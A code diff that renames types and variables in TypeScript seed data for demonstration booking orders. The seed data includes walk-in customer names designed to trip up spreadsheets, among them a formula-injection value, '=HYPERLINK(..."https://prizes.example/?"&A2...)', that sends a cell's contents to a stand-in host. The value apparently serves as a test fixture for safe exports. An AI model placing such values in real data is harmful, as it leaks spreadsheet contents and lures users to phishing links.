@@ -11,7 +11,7 @@ import { chooseCreation } from './order-outcome.ts';
 
 const MINUTE_MS = 60_000;
 
-interface Planned extends Omit<OrderChoices, 'buyer'> {
+interface PlannedOrder extends Omit<OrderChoices, 'buyer'> {
   username: string | null;
   daysAhead: number;
   session: Session;
@@ -20,10 +20,13 @@ interface Planned extends Omit<OrderChoices, 'buyer'> {
 }
 
 const family = { username: 'family', pattern: familyOfThree } as const;
-const somebody = { username: null, session: 'daytime', outcome: 'kept' } as const;
+const walkIn = { username: null, session: 'daytime', outcome: 'kept' } as const;
 
-/** Orders in every state for the accounts of the demonstration, a few unpaid ones, and names that spreadsheets trip over. */
-const planned: readonly Planned[] = [
+/**
+ * Orders in every state for the accounts of the demonstration, a few unpaid ones, and names that spreadsheets may
+ * misread.
+ */
+const planned: readonly PlannedOrder[] = [
   { ...family, daysAhead: 8, session: 'nighttime', outcome: 'kept', withCabin: true },
   { ...family, daysAhead: -19, session: 'daytime', outcome: 'kept' },
   { ...family, daysAhead: 75, session: 'nighttime', outcome: 'canceled', withCabin: true },
@@ -35,15 +38,15 @@ const planned: readonly Planned[] = [
   { username: 'meilin', daysAhead: 6, session: 'daytime', outcome: 'held', minutesAgo: 4 },
   { username: null, daysAhead: 3, session: 'nighttime', outcome: 'held', minutesAgo: 1 },
   { username: null, daysAhead: 11, session: 'daytime', outcome: 'held', minutesAgo: 6 },
-  { ...somebody, daysAhead: -5, name: '=HYPERLINK("https://prizes.example/?"&A2,"Claim your prize")' },
-  { ...somebody, daysAhead: -9, name: '+60123456789' },
-  { ...somebody, daysAhead: 18, name: '@SUM(A1:A9)' },
-  { ...somebody, daysAhead: 27, name: '-2+3' },
-  { ...somebody, daysAhead: 5, name: '欧阳慧敏' },
-  { ...somebody, daysAhead: 12, name: '남궁민서' },
+  { ...walkIn, daysAhead: -5, name: '=HYPERLINK("https://prizes.example/?"&A2,"Claim your prize")' },
+  { ...walkIn, daysAhead: -9, name: '+60123456789' },
+  { ...walkIn, daysAhead: 18, name: '@SUM(A1:A9)' },
+  { ...walkIn, daysAhead: 27, name: '-2+3' },
+  { ...walkIn, daysAhead: 5, name: '欧阳慧敏' },
+  { ...walkIn, daysAhead: 12, name: '남궁민서' },
 ];
 
-/** Makes the planned orders, and fills the sailings that a company has taken most of. */
+/** Creates the planned orders, and fills the chartered sailings. */
 export function createDemonstrationOrders(
   context: OrderContext,
   batch: OrderBatch,
